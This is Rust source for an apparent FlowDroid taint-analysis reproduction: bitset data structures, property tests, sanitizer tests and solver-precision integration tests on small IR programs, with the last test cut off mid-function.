impl Idx for usize {
    #[inline]
    fn index(self) -> usize {
        self
    }
    #[inline]
    fn from_index(i: usize) -> Self {
        i
    }
}

const WORD_BITS: usize = u64::BITS as usize;

#[inline]
fn word_of(i: usize) -> (usize, u64) {
    (i / WORD_BITS, 1u64 << (i % WORD_BITS))
}

/// A dense bitset over `T`'s index domain, growing on demand.
///
/// No up-front domain size is required: inserting index `i` grows the
/// word array to cover `i`. This matters because the fact interner
/// hands out ids *during* the fixpoint — the universe is not known
/// when a row is created.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct BitSet<T: Idx> {
    words: Vec<u64>,
    marker: std::marker::PhantomData<T>,
}

impl<T: Idx> Default for BitSet<T> {
    fn default() -> Self {
        Self::new()
    }
}

impl<T: Idx> BitSet<T> {
    /// An empty set.
    pub fn new() -> BitSet<T> {
        BitSet { words: Vec::new(), marker: std::marker::PhantomData }
    }

    /// An empty set with capacity for indices below `universe`.
    pub fn with_capacity(universe: usize) -> BitSet<T> {
        BitSet {
            words: vec![0; universe.div_ceil(WORD_BITS)],
            marker: std::marker::PhantomData,
        }
    }

    /// Inserts `t`; returns `true` if it was not already present.
    pub fn insert(&mut self, t: T) -> bool {
        let (w, bit) = word_of(t.index());
        if w >= self.words.len() {
            self.words.resize(w + 1, 0);
        }
        let word = &mut self.words[w];
        let new = *word & bit == 0;
        *word |= bit;
        new
    }

    /// Whether `t` is in the set.
    pub fn contains(&self, t: T) -> bool {
        let (w, bit) = word_of(t.index());
        self.words.get(w).is_some_and(|word| word & bit != 0)
    }

    /// Number of elements.
    pub fn count(&self) -> usize {
        self.words.iter().map(|w| w.count_ones() as usize).sum()
    }

    /// Whether the set is empty.
    pub fn is_empty(&self) -> bool {
        self.words.iter().all(|w| *w == 0)
    }

    /// Unions `other` into `self`; returns `true` if anything was added.
    pub fn union(&mut self, other: &BitSet<T>) -> bool {
        if other.words.len() > self.words.len() {
            self.words.resize(other.words.len(), 0);
        }
        let mut changed = false;
        for (dst, src) in self.words.iter_mut().zip(&other.words) {
            let before = *dst;
            *dst |= src;
            changed |= *dst != before;
        }
        changed
    }

    /// Words currently backing the set (capacity accounting).
    pub fn word_count(&self) -> usize {
        self.words.len()
    }

    /// Elements in ascending index order.
    pub fn iter(&self) -> BitIter<'_, T> {
        BitIter { words: &self.words, word: 0, current: self.words.first().copied().unwrap_or(0), marker: std::marker::PhantomData }
    }
}

/// Ascending-order iterator over a [`BitSet`].
pub struct BitIter<'a, T: Idx> {
    words: &'a [u64],
    word: usize,
    current: u64,
    marker: std::marker::PhantomData<T>,
}

impl<T: Idx> Iterator for BitIter<'_, T> {
    type Item = T;

    fn next(&mut self) -> Option<T> {
        while self.current == 0 {
            self.word += 1;
            if self.word >= self.words.len() {
                return None;
            }
            self.current = self.words[self.word];
        }
        let bit = self.current.trailing_zeros() as usize;
        self.current &= self.current - 1;
        Some(T::from_index(self.word * WORD_BITS + bit))
    }
}

/// Elements a [`HybridBitSet`] holds inline before promoting to dense.
///
/// Eight raw `u32` indices fit in 32 bytes — one cache line alongside
/// the discriminant — and cover the overwhelming majority of IFDS rows
/// (most statements see a handful of distinct facts).
pub const SPARSE_MAX: usize = 8;

/// A set that is an inline sorted array until it exceeds
/// [`SPARSE_MAX`] elements, then a dense [`BitSet`] forever after.
///
/// Promotion is one-way: a row that went dense once is likely hot.
/// Both representations iterate in ascending index order, so swapping
/// one for the other never changes observable iteration order.
#[derive(Clone, Debug)]
pub enum HybridBitSet<T: Idx> {
    /// Sorted, deduplicated inline indices (`len` live in `elems`).
    Sparse {
        /// The live elements, ascending, in `elems[..len]`.
        elems: [u32; SPARSE_MAX],
        /// Number of live elements.
        len: u8,
        /// Ties the unused `T` parameter down.
        marker: std::marker::PhantomData<T>,
    },
    /// Promoted representation.
    Dense(BitSet<T>),
}

impl<T: Idx> Default for HybridBitSet<T> {
    fn default() -> Self {
        HybridBitSet::new()
    }
}

impl<T: Idx> HybridBitSet<T> {
    /// An empty (sparse) set.
    pub fn new() -> HybridBitSet<T> {
        HybridBitSet::Sparse {
            elems: [0; SPARSE_MAX],
            len: 0,
            marker: std::marker::PhantomData,
        }
    }

    /// Inserts `t`; returns `true` if it was not already present.
    /// Promotes to dense when the sparse array would overflow.
    pub fn insert(&mut self, t: T) -> bool {
        match self {
            HybridBitSet::Sparse { elems, len, .. } => {
                let raw = t.index() as u32;
                let live = &elems[..*len as usize];
                let pos = match live.binary_search(&raw) {
                    Ok(_) => return false,
                    Err(pos) => pos,
                };
                if (*len as usize) < SPARSE_MAX {
                    elems[pos..=*len as usize].rotate_right(1);
                    elems[pos] = raw;
                    *len += 1;
                } else {
                    let mut dense = BitSet::with_capacity(t.index() + 1);
                    for &e in elems.iter() {
                        dense.insert(T::from_index(e as usize));
                    }
                    dense.insert(t);
                    *self = HybridBitSet::Dense(dense);
                }
                true
            }
            HybridBitSet::Dense(dense) => dense.insert(t),
        }
    }

    /// Whether `t` is in the set.
    pub fn contains(&self, t: T) -> bool {
        match self {
            HybridBitSet::Sparse { elems, len, .. } => {
                elems[..*len as usize].binary_search(&(t.index() as u32)).is_ok()
            }
            HybridBitSet::Dense(dense) => dense.contains(t),
        }
    }

    /// Number of elements.
    pub fn count(&self) -> usize {
        match self {
            HybridBitSet::Sparse { len, .. } => *len as usize,
            HybridBitSet::Dense(dense) => dense.count(),
        }
    }

    /// Whether the set is empty.
    pub fn is_empty(&self) -> bool {
        self.count() == 0
    }

    /// Whether the set has promoted to the dense representation.
    pub fn is_dense(&self) -> bool {
        matches!(self, HybridBitSet::Dense(_))
    }

    /// Words backing a dense set (0 while sparse).
    pub fn word_count(&self) -> usize {
        match self {
            HybridBitSet::Sparse { .. } => 0,
            HybridBitSet::Dense(dense) => dense.word_count(),
        }
    }

    /// Elements in ascending index order.
    pub fn iter(&self) -> HybridIter<'_, T> {
        match self {
            HybridBitSet::Sparse { elems, len, .. } => {
                HybridIter::Sparse(elems[..*len as usize].iter())
            }
            HybridBitSet::Dense(dense) => HybridIter::Dense(dense.iter()),
        }
    }
}

/// Ascending-order iterator over a [`HybridBitSet`].
pub enum HybridIter<'a, T: Idx> {
    /// Iterating the inline array.
    Sparse(std::slice::Iter<'a, u32>),
    /// Iterating the promoted bitset.
    Dense(BitIter<'a, T>),
}

impl<T: Idx> Iterator for HybridIter<'_, T> {
    type Item = T;

    fn next(&mut self) -> Option<T> {
        match self {
            HybridIter::Sparse(it) => it.next().map(|&raw| T::from_index(raw as usize)),
            HybridIter::Dense(it) => it.next(),
        }
    }
}

/// A relation `R × C` stored as on-demand rows of [`HybridBitSet<C>`].
///
/// Rows that are never touched cost one `None` slot; touched rows cost
/// an inline hybrid set until they grow past [`SPARSE_MAX`]. This is
/// the backing store for per-row fact relations where the row domain
/// (e.g. interned fact ids at one statement) is dense but mostly
/// unused.
#[derive(Clone, Debug)]
pub struct SparseBitMatrix<R: Idx, C: Idx> {
    rows: Vec<Option<HybridBitSet<C>>>,
    marker: std::marker::PhantomData<R>,
}

impl<R: Idx, C: Idx> Default for SparseBitMatrix<R, C> {
    fn default() -> Self {
        Self::new()
    }
}

impl<R: Idx, C: Idx> SparseBitMatrix<R, C> {
    /// An empty matrix.
    pub fn new() -> SparseBitMatrix<R, C> {
        SparseBitMatrix { rows: Vec::new(), marker: std::marker::PhantomData }
    }

    /// Inserts `(r, c)`; returns `true` if it was not already present.
    pub fn insert(&mut self, r: R, c: C) -> bool {
        let ri = r.index();
        if ri >= self.rows.len() {
            self.rows.resize_with(ri + 1, || None);
        }
        self.rows[ri].get_or_insert_with(HybridBitSet::new).insert(c)
    }

    /// Whether `(r, c)` is in the relation.
    pub fn contains(&self, r: R, c: C) -> bool {
        self.row(r).is_some_and(|row| row.contains(c))
    }

    /// The row for `r`, if it was ever touched.
    pub fn row(&self, r: R) -> Option<&HybridBitSet<C>> {
        self.rows.get(r.index()).and_then(|row| row.as_ref())
    }

    /// Row indices that were touched (possibly empty rows included),
    /// ascending.
    pub fn rows(&self) -> impl Iterator<Item = R> + '_ {
        self.rows
            .iter()
            .enumerate()
            .filter(|(_, row)| row.is_some())
            .map(|(i, _)| R::from_index(i))
    }

    /// Number of touched rows.
    pub fn row_count(&self) -> usize {
        self.rows.iter().filter(|r| r.is_some()).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bitset_insert_contains_iter() {
        let mut s: BitSet<u32> = BitSet::new();
        assert!(s.is_empty());
        assert!(s.insert(3));
        assert!(s.insert(200));
        assert!(!s.insert(3));
        assert!(s.insert(0));
        assert!(s.contains(0) && s.contains(3) && s.contains(200));
        assert!(!s.contains(1) && !s.contains(199) && !s.contains(10_000));
        assert_eq!(s.count(), 3);
        assert_eq!(s.iter().collect::<Vec<_>>(), vec![0, 3, 200]);
    }

    #[test]
    fn bitset_union_grows_and_reports_change() {
        let mut a: BitSet<u32> = BitSet::new();
        a.insert(1);
        let mut b: BitSet<u32> = BitSet::new();
        b.insert(1);
        b.insert(500);
        assert!(a.union(&b));
        assert!(!a.union(&b));
        assert_eq!(a.iter().collect::<Vec<_>>(), vec![1, 500]);
    }

    #[test]
    fn hybrid_stays_sparse_then_promotes() {
        let mut s: HybridBitSet<u32> = HybridBitSet::new();
        for i in 0..SPARSE_MAX as u32 {
            assert!(s.insert(i * 7));
            assert!(!s.is_dense());
        }
        // Re-inserting existing elements never promotes.
        assert!(!s.insert(0));
        assert!(!s.is_dense());
        // The ninth distinct element promotes.
        assert!(s.insert(1_000));
        assert!(s.is_dense());
        assert_eq!(s.count(), SPARSE_MAX + 1);
        for i in 0..SPARSE_MAX as u32 {
            assert!(s.contains(i * 7));
        }
        assert!(s.contains(1_000));
    }

    #[test]
    fn hybrid_sparse_insert_keeps_sorted_order() {
        let mut s: HybridBitSet<u32> = HybridBitSet::new();
        for v in [9, 2, 7, 2, 0, 5] {
            s.insert(v);
        }
        assert_eq!(s.iter().collect::<Vec<_>>(), vec![0, 2, 5, 7, 9]);
    }

    #[test]
    fn hybrid_iter_order_survives_promotion() {
        let mut s: HybridBitSet<u32> = HybridBitSet::new();
        let vals = [64, 1, 128, 3, 90, 17, 2, 55, 4, 300];
        for v in vals {
            s.insert(v);
        }
        let mut sorted = vals.to_vec();
        sorted.sort_unstable();
        assert!(s.is_dense());
        assert_eq!(s.iter().collect::<Vec<_>>(), sorted);
    }

    #[test]
    fn matrix_rows_on_demand() {
        let mut m: SparseBitMatrix<usize, u32> = SparseBitMatrix::new();
        assert!(m.insert(5, 10));
        assert!(m.insert(5, 2));
        assert!(!m.insert(5, 10));
        assert!(m.insert(0, 1));
        assert!(m.contains(5, 2));
        assert!(!m.contains(4, 2));
        assert!(m.row(3).is_none());
        assert_eq!(m.row(5).unwrap().iter().collect::<Vec<_>>(), vec![2, 10]);
        assert_eq!(m.rows().collect::<Vec<_>>(), vec![0, 5]);
        assert_eq!(m.row_count(), 2);
    }
}
