//! Property tests for the bitset structures against a `BTreeSet`
//! model: whatever operation sequence is thrown at them, a
//! [`HybridBitSet`] must behave exactly like a set of integers across
//! its sparse→dense promotion, and a [`SparseBitMatrix`] exactly like a
//! map of row sets. These are the invariants the IFDS tabulators'
//! correctness rides on when fact sets switch representation.

use flowdroid_bitset::{BitSet, HybridBitSet, SparseBitMatrix, SPARSE_MAX};
use proptest::prelude::*;
use std::collections::BTreeSet;

/// Element strategy: a universe small enough to collide often (the
/// interesting case) but larger than a few words.
fn elem() -> impl Strategy<Value = u32> {
    0u32..200
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// A hybrid set agrees with a `BTreeSet` model on insert return
    /// values, membership, count and iteration order — including runs
    /// long enough to cross the sparse→dense promotion threshold.
    #[test]
    fn hybrid_matches_btreeset_model(elems in proptest::collection::vec(elem(), 0..40)) {
        let mut h: HybridBitSet<u32> = HybridBitSet::new();
        let mut model: BTreeSet<u32> = BTreeSet::new();
        for e in &elems {
            prop_assert_eq!(h.insert(*e), model.insert(*e), "insert({}) novelty", e);
            prop_assert!(h.contains(*e));
        }
        prop_assert_eq!(h.count(), model.len());
        prop_assert_eq!(h.is_empty(), model.is_empty());
        // Iteration is ascending-index — i.e. exactly the model's order.
        let got: Vec<u32> = h.iter().collect();
        let want: Vec<u32> = model.iter().copied().collect();
        prop_assert_eq!(got, want);
        // Membership agrees across the whole universe, not just inserted
        // elements.
        for probe in 0u32..200 {
            prop_assert_eq!(h.contains(probe), model.contains(&probe), "contains({})", probe);
        }
        // Density is determined by the distinct-element count.
        prop_assert_eq!(h.is_dense(), model.len() > SPARSE_MAX);
    }

    /// Insertion is idempotent: re-inserting every element reports
    /// nothing new and leaves contents untouched (the tabulator relies
    /// on `insert` novelty to decide scheduling).
    #[test]
    fn hybrid_insert_is_idempotent(elems in proptest::collection::vec(elem(), 1..32)) {
        let mut h: HybridBitSet<u32> = HybridBitSet::new();
        for e in &elems {
            h.insert(*e);
        }
        let before: Vec<u32> = h.iter().collect();
        for e in &elems {
            prop_assert!(!h.insert(*e), "re-insert({}) claimed novelty", e);
        }
        let after: Vec<u32> = h.iter().collect();
        prop_assert_eq!(before, after);
    }

    /// Sparse and dense representations of the same contents are
    /// observationally identical: a set built straight into a dense
    /// `BitSet` agrees with the hybrid set fed the same elements.
    #[test]
    fn promotion_preserves_contents(elems in proptest::collection::vec(elem(), 0..40)) {
        let mut h: HybridBitSet<u32> = HybridBitSet::new();
        let mut d: BitSet<u32> = BitSet::new();
        for e in &elems {
            prop_assert_eq!(h.insert(*e), d.insert(*e));
        }
        prop_assert_eq!(h.count(), d.count());
        let hv: Vec<u32> = h.iter().collect();
        let dv: Vec<u32> = d.iter().collect();
        prop_assert_eq!(hv, dv);
    }

    /// Union via repeated insert reaches the model union whatever the
    /// interleaving of the two input sets.
    #[test]
    fn union_matches_model(
        a in proptest::collection::vec(elem(), 0..24),
        b in proptest::collection::vec(elem(), 0..24),
    ) {
        let mut h: HybridBitSet<u32> = HybridBitSet::new();
        // Interleave: a[0], b[0], a[1], b[1], ...
        let mut model: BTreeSet<u32> = BTreeSet::new();
        for i in 0..a.len().max(b.len()) {
            if let Some(e) = a.get(i) {
                h.insert(*e);
                model.insert(*e);
            }
            if let Some(e) = b.get(i) {
                h.insert(*e);
                model.insert(*e);
            }
        }
        let got: Vec<u32> = h.iter().collect();
        let want: Vec<u32> = model.iter().copied().collect();
        prop_assert_eq!(got, want);
    }

    /// A matrix row holds exactly the columns inserted under that row:
    /// rows never bleed into each other, and row iteration matches the
    /// per-row model.
    #[test]
    fn matrix_rows_match_model(
        pairs in proptest::collection::vec((0u32..12, elem()), 0..60),
    ) {
        let mut m: SparseBitMatrix<u32, u32> = SparseBitMatrix::new();
        let mut model: std::collections::BTreeMap<u32, BTreeSet<u32>> = Default::default();
        for (r, c) in &pairs {
            prop_assert_eq!(
                m.insert(*r, *c),
                model.entry(*r).or_default().insert(*c),
                "insert({}, {}) novelty", r, c
            );
        }
        let rows: Vec<u32> = m.rows().collect();
        let want_rows: Vec<u32> = model.keys().copied().collect();
        prop_assert_eq!(rows, want_rows);
        for (r, cols) in &model {
            let got: Vec<u32> = m.row(*r).expect("touched row").iter().collect();
            let want: Vec<u32> = cols.iter().copied().collect();
            prop_assert_eq!(got, want, "row {}", r);
            for c in cols {
                prop_assert!(m.contains(*r, *c));
            }
        }
        // Untouched rows read as absent.
        prop_assert!(!m.contains(100, 0));
    }
}
