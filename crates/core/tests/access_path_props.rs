//! Property tests for the access-path algebra (paper §4.1): the length
//! bound is an invariant, prefix coverage is reflexive and transitive,
//! and rebasing composes with reading.

use flowdroid_core::access_path::{AccessPath, ApBase};
use flowdroid_ir::{FieldId, Local};
use proptest::prelude::*;

fn field_strategy() -> impl Strategy<Value = FieldId> {
    (0usize..8).prop_map(FieldId::from_index)
}

fn ap_strategy(max_len: usize) -> impl Strategy<Value = AccessPath> {
    (
        0u32..4,
        proptest::collection::vec(field_strategy(), 0..6),
    )
        .prop_map(move |(l, fields)| {
            AccessPath::new(ApBase::Local(Local(l)), fields, max_len)
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Appending never exceeds the bound, and the bound is sticky.
    #[test]
    fn append_respects_bound(ap in ap_strategy(5), f in field_strategy(), k in 1usize..6) {
        let bounded = AccessPath::new(ap.base(), ap.fields().to_vec(), k);
        let appended = bounded.append(f, k);
        prop_assert!(appended.len() <= k);
        // Once truncated, appends are absorbed.
        if bounded.is_truncated() {
            prop_assert_eq!(&appended, &bounded);
        }
    }

    /// Coverage is reflexive: any path covers a read of itself with an
    /// empty remainder.
    #[test]
    fn read_remainder_reflexive(ap in ap_strategy(5)) {
        prop_assert_eq!(ap.read_remainder(&ap), Some(&[][..]));
    }

    /// A taint on a prefix covers a read of every extension.
    #[test]
    fn shorter_taints_cover_deeper_reads(ap in ap_strategy(3), f in field_strategy()) {
        let deeper = ap.append(f, 10);
        // Reading `deeper` while `ap` is tainted yields the whole object.
        prop_assert_eq!(ap.read_remainder(&deeper), Some(&[][..]));
        // Reading `ap` while `deeper` is tainted yields the remainder.
        if !ap.is_truncated() {
            let rem = deeper.read_remainder(&ap);
            prop_assert_eq!(rem, Some(&deeper.fields()[ap.len()..]));
        }
    }

    /// has_prefix is consistent with read_remainder in the rooted
    /// direction.
    #[test]
    fn has_prefix_implies_remainder(a in ap_strategy(5), b in ap_strategy(5)) {
        if a.has_prefix(&b) {
            prop_assert!(a.read_remainder(&b).is_some());
        }
    }

    /// Rebase onto the same base with no prefix is the identity (up to
    /// the bound).
    #[test]
    fn rebase_identity(ap in ap_strategy(5)) {
        let re = ap.rebase(ap.base(), &[], 5);
        prop_assert_eq!(re.base(), ap.base());
        prop_assert_eq!(re.fields(), ap.fields());
    }

    /// Rebasing bounds the result.
    #[test]
    fn rebase_respects_bound(
        ap in ap_strategy(5),
        prefix in proptest::collection::vec(field_strategy(), 0..4),
        k in 1usize..6,
    ) {
        let re = ap.rebase(ApBase::Local(Local(9)), &prefix, k);
        prop_assert!(re.len() <= k);
    }

    /// Distinct bases never cover each other.
    #[test]
    fn distinct_bases_never_match(ap in ap_strategy(5), f in field_strategy()) {
        let other = AccessPath::new(ApBase::Static(f), ap.fields().to_vec(), 5);
        prop_assert!(ap.read_remainder(&other).is_none() || ap.base() == other.base());
    }
}
