//! Sanitizer support (extension): the paper notes FlowDroid "does not
//! support sanitization at the moment" and therefore counts AppScan's
//! type-1 exceptions as findings. This reproduction adds the missing
//! `_SANITIZER_` role: the return value of a registered sanitizer is
//! clean regardless of argument taint.

use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
use flowdroid_frontend::layout::ResourceTable;
use flowdroid_frontend::parse_jasm;
use flowdroid_ir::Program;

const CODE: &str = r#"
class Env {
  static native method source() -> java.lang.String
  static native method sink(s: java.lang.String) -> void
  static native method escape(s: java.lang.String) -> java.lang.String
}
class Main {
  static method sanitized() -> void {
    let s: java.lang.String
    let c: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    c = staticinvoke <Env: java.lang.String escape(java.lang.String)>(s)
    staticinvoke <Env: void sink(java.lang.String)>(c)
    return
  }
  static method unsanitized() -> void {
    let s: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    staticinvoke <Env: void sink(java.lang.String)>(s)
    return
  }
  static method original_still_tainted() -> void {
    let s: java.lang.String
    let c: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    c = staticinvoke <Env: java.lang.String escape(java.lang.String)>(s)
    staticinvoke <Env: void sink(java.lang.String)>(s)
    return
  }
}
"#;

fn run(defs: &str, entry: &str) -> usize {
    let mut p = Program::new();
    flowdroid_android::install_platform(&mut p);
    let rt = ResourceTable::new();
    parse_jasm(&mut p, &rt, CODE).unwrap();
    let sources = SourceSinkManager::parse(defs).unwrap();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let main = p.find_method("Main", entry).unwrap();
    Infoflow::new(&sources, &wrapper, &config).run(&p, &[main]).leak_count()
}

const WITH_SANITIZER: &str = "\
<Env: java.lang.String source()> -> _SOURCE_\n\
<Env: void sink(java.lang.String)> -> _SINK_\n\
<Env: java.lang.String escape(java.lang.String)> -> _SANITIZER_\n";

const WITHOUT_SANITIZER: &str = "\
<Env: java.lang.String source()> -> _SOURCE_\n\
<Env: void sink(java.lang.String)> -> _SINK_\n";

#[test]
fn sanitizer_cleans_the_return_value() {
    assert_eq!(run(WITH_SANITIZER, "sanitized"), 0);
}

#[test]
fn without_the_rule_the_stub_default_taints_through() {
    // The paper's behavior: escape() is just another body-less call, so
    // the native default propagates the taint (and the flow reports).
    assert_eq!(run(WITHOUT_SANITIZER, "sanitized"), 1);
}

#[test]
fn sanitizer_does_not_affect_direct_flows() {
    assert_eq!(run(WITH_SANITIZER, "unsanitized"), 1);
}

#[test]
fn sanitizing_a_copy_leaves_the_original_tainted() {
    assert_eq!(run(WITH_SANITIZER, "original_still_tainted"), 1);
}

#[test]
fn sanitizer_role_parses() {
    let m = SourceSinkManager::parse(WITH_SANITIZER).unwrap();
    assert_eq!(m.len(), 3);
}
