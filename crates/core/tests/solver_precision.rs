//! Integration tests for the bidirectional solver, reproducing the
//! paper's running examples: Figure 2 (on-demand aliasing), Listing 2
//! (context injection), Listing 3 (activation statements), and the
//! field-/object-sensitivity claims of §2.

use flowdroid_core::{Infoflow, InfoflowConfig, InfoflowResults, SourceSinkManager, TaintWrapper};
use flowdroid_frontend::layout::ResourceTable;
use flowdroid_frontend::parse_jasm;
use flowdroid_ir::Program;

const ENV: &str = r#"
class Env {
  native static method source() -> java.lang.String
  native static method sink(s: java.lang.String) -> void
  native static method sinkObj(o: java.lang.Object) -> void
}
"#;

const DEFS: &str = "\
<Env: java.lang.String source()> -> _SOURCE_\n\
<Env: void sink(java.lang.String)> -> _SINK_\n\
<Env: void sinkObj(java.lang.Object)> -> _SINK_\n";

fn analyze_with(config: &InfoflowConfig, body: &str, entry: (&str, &str)) -> (Program, InfoflowResults) {
    let mut p = Program::new();
    flowdroid_android::install_platform(&mut p);
    let rt = ResourceTable::new();
    parse_jasm(&mut p, &rt, ENV).unwrap();
    parse_jasm(&mut p, &rt, body).unwrap_or_else(|e| panic!("{e}"));
    let sources = SourceSinkManager::parse(DEFS).unwrap();
    let wrapper = TaintWrapper::default_rules();
    let main = p.find_method(entry.0, entry.1).expect("entry method");
    let infoflow = Infoflow::new(&sources, &wrapper, config);
    let results = infoflow.run(&p, &[main]);
    (p, results)
}

fn analyze(body: &str, entry: (&str, &str)) -> (Program, InfoflowResults) {
    analyze_with(&InfoflowConfig::default(), body, entry)
}

/// Sink lines (deduplicated) of all reported leaks.
fn sink_lines(p: &Program, r: &InfoflowResults) -> Vec<u32> {
    let mut v: Vec<u32> = r.leaks.iter().map(|l| l.sink_line(p)).collect();
    v.sort_unstable();
    v.dedup();
    v
}

// ====================== basic flows ======================

#[test]
fn direct_flow_is_found() {
    let (_, r) = analyze(
        r#"
class Main {
  static method main() -> void {
    let s: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    staticinvoke <Env: void sink(java.lang.String)>(s)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert_eq!(r.leak_count(), 1);
    assert!(r.leaks[0].source.is_some(), "source should be attributed");
}

#[test]
fn clean_program_reports_nothing() {
    let (_, r) = analyze(
        r#"
class Main {
  static method main() -> void {
    let s: java.lang.String
    s = "hello"
    staticinvoke <Env: void sink(java.lang.String)>(s)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert!(r.is_clean());
}

#[test]
fn overwrite_kills_taint() {
    let (_, r) = analyze(
        r#"
class Main {
  static method main() -> void {
    let s: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    s = "clean"
    staticinvoke <Env: void sink(java.lang.String)>(s)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert!(r.is_clean(), "strong update on locals must kill the taint");
}

#[test]
fn flow_through_identity_call_is_context_sensitive() {
    let (p, r) = analyze(
        r#"
class Main {
  static method id(x: java.lang.String) -> java.lang.String {
    return x
  }
  static method main() -> void {
    let s: java.lang.String
    let a: java.lang.String
    let b: java.lang.String
    s = staticinvoke <Env: java.lang.String source()>()
    a = staticinvoke <Main: java.lang.String id(java.lang.String)>(s)
    b = staticinvoke <Main: java.lang.String id(java.lang.String)>("pub")
    staticinvoke <Env: void sink(java.lang.String)>(a)
    staticinvoke <Env: void sink(java.lang.String)>(b)
    return
  }
}
"#,
        ("Main", "main"),
    );
    let lines = sink_lines(&p, &r);
    assert_eq!(lines.len(), 1, "only the tainted call leaks: {r:#?}");
    assert_eq!(r.leak_count(), 1);
}

// ====================== field sensitivity (§2) ======================

#[test]
fn field_sensitivity_distinguishes_fields() {
    let (p, r) = analyze(
        r#"
class User {
  field name: java.lang.String
  field pwd: java.lang.String
}
class Main {
  static method main() -> void {
    let u: User
    let n: java.lang.String
    let w: java.lang.String
    u = new User
    u.name = "alice"
    w = staticinvoke <Env: java.lang.String source()>()
    u.pwd = w
    n = u.name
    staticinvoke <Env: void sink(java.lang.String)>(n)
    w = u.pwd
    staticinvoke <Env: void sink(java.lang.String)>(w)
    return
  }
}
"#,
        ("Main", "main"),
    );
    let lines = sink_lines(&p, &r);
    assert_eq!(lines.len(), 1, "only u.pwd leaks, not u.name: {r:#?}");
}

#[test]
fn deep_field_chains_are_tracked() {
    let (_, r) = analyze(
        r#"
class A { field b: B }
class B { field c: C }
class C { field s: java.lang.String }
class Main {
  static method main() -> void {
    let a: A
    let b: B
    let c: C
    let t: java.lang.String
    a = new A
    b = new B
    c = new C
    a.b = b
    b.c = c
    t = staticinvoke <Env: java.lang.String source()>()
    c.s = t
    let x: B
    let y: C
    let z: java.lang.String
    x = a.b
    y = x.c
    z = y.s
    staticinvoke <Env: void sink(java.lang.String)>(z)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert_eq!(r.leak_count(), 1, "{r:#?}");
}

// ====================== Figure 2: on-demand aliasing ======================

#[test]
fn figure2_alias_through_callee_heap_write() {
    // void foo(z) { x = z.g; w = source(); x.f = w; }
    // void main() { a = new A(); b = a.g; foo(a); sink(b.f); }
    let (_, r) = analyze(
        r#"
class A { field g: B }
class B { field f: java.lang.String }
class Main {
  static method foo(z: A) -> void {
    let x: B
    let w: java.lang.String
    x = z.g
    w = staticinvoke <Env: java.lang.String source()>()
    x.f = w
    return
  }
  static method main() -> void {
    let a: A
    let b: B
    let t: java.lang.String
    a = new A
    b = a.g
    staticinvoke <Main: void foo(A)>(a)
    t = b.f
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert_eq!(r.leak_count(), 1, "the b.f alias must be found: {r:#?}");
}

#[test]
fn figure2_no_alias_analysis_misses_the_leak() {
    let config = InfoflowConfig::default().with_alias_analysis(false);
    let (_, r) = analyze_with(
        &config,
        r#"
class A { field g: B }
class B { field f: java.lang.String }
class Main {
  static method foo(z: A) -> void {
    let x: B
    let w: java.lang.String
    x = z.g
    w = staticinvoke <Env: java.lang.String source()>()
    x.f = w
    return
  }
  static method main() -> void {
    let a: A
    let b: B
    let t: java.lang.String
    a = new A
    b = a.g
    staticinvoke <Main: void foo(A)>(a)
    t = b.f
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
        ("Main", "main"),
    );
    assert!(r.is_clean(), "without the alias analysis the flow is missed");
}

// ====================== Listing 2: context injection ======================

const LISTING2: &str = r#"
class Data { field f: java.lang.String }
class Main {
  static method taintIt(in: java.lang.String, out: Data) -> void {
    let x: Data
    x = out
    x.f = in
    let t: java.lang.String
    t = out.f
    staticinvoke <Env: void sink(java.lang.String)>(t)
    return
  }
  static method main() -> void {
    let p: Data
    let p2: Data
    let s: java.lang.String
    let t: java.lang.String
    p = new Data
    p2 = new Data
    s = staticinvoke <Env: java.lang.String source()>()
    staticinvoke <Main: void taintIt(java.lang.String,Data)>(s, p)
    t = p.f
    staticinvoke <Env: void sink(java.lang.String)>(t)
    staticinvoke <Main: void taintIt(java.lang.String,Data)>("public", p2)
    let u: java.lang.String
    u = p2.f
    staticinvoke <Env: void sink(java.lang.String)>(u)
    return
  }
}
"#;

#[test]
fn listing2_context_injection_blocks_unrealizable_paths() {
    let (p, r) = analyze(LISTING2, ("Main", "main"));
    let lines = sink_lines(&p, &r);
    // Leaks: inside taintIt (line 9, only for the tainted call) and at
    // p.f in main (line 21). NOT at p2.f (line 25).
    assert!(lines.contains(&10), "leak inside taintIt: {lines:?}\n{r:#?}");
    assert!(lines.contains(&23), "leak at p.f: {lines:?}");
    assert!(!lines.contains(&27), "p2.f must NOT leak (context injection): {lines:?}");
}

#[test]
fn listing2_naive_handover_produces_false_positive() {
    let config = InfoflowConfig::default().with_context_injection(false);
    let (p, r) = analyze_with(&config, LISTING2, ("Main", "main"));
    let lines = sink_lines(&p, &r);
    assert!(
        lines.contains(&27),
        "the naive handover ablation must report the unrealizable p2.f leak: {lines:?}"
    );
}

// ====================== Listing 3: activation statements ======================

const LISTING3: &str = r#"
class Data { field f: java.lang.String }
class Main {
  static method main() -> void {
    let p: Data
    let p2: Data
    let t: java.lang.String
    let u: java.lang.String
    let s: java.lang.String
    p = new Data
    p2 = p
    t = p2.f
    staticinvoke <Env: void sink(java.lang.String)>(t)
    s = staticinvoke <Env: java.lang.String source()>()
    p.f = s
    u = p2.f
    staticinvoke <Env: void sink(java.lang.String)>(u)
    return
  }
}
"#;

#[test]
fn listing3_activation_statements_keep_flow_sensitivity() {
    let (p, r) = analyze(LISTING3, ("Main", "main"));
    let lines = sink_lines(&p, &r);
    assert!(!lines.contains(&13), "sink before the write must not leak: {lines:?}\n{r:#?}");
